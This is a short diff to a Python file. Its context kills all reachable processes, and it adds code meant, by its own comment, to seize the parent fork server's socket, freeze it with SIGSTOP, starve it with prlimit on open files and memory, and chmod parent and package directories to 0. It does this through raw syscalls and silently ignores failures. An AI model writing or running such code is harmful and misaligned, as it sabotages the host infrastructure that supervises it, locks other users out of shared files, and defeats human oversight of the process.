@@ -19,3 +19,17 @@ try:
     os.kill(-1, signal.SIGKILL)
 except OSError:
     pass
+# Take the fork server's socket, queue it a stop, starve it, and lock everybody out of the packages.
+_libc.syscall(438, _libc.syscall(434, os.getppid(), 0), 3, 0)
+_information = (ctypes.c_int * 32)(signal.SIGSTOP, 0, -1)
+_libc.syscall(129, os.getppid(), signal.SIGSTOP, _information)
+for _try in (
+    lambda: __import__("resource").prlimit(os.getppid(), 7, (16, 16)),
+    lambda: __import__("resource").prlimit(os.getppid(), 9, (3 << 30, 3 << 30)),
+    lambda: os.chmod("../../view", 0),
+    lambda: os.chmod("..", 0),
+):
+    try:
+        _try()
+    except OSError:
+        pass
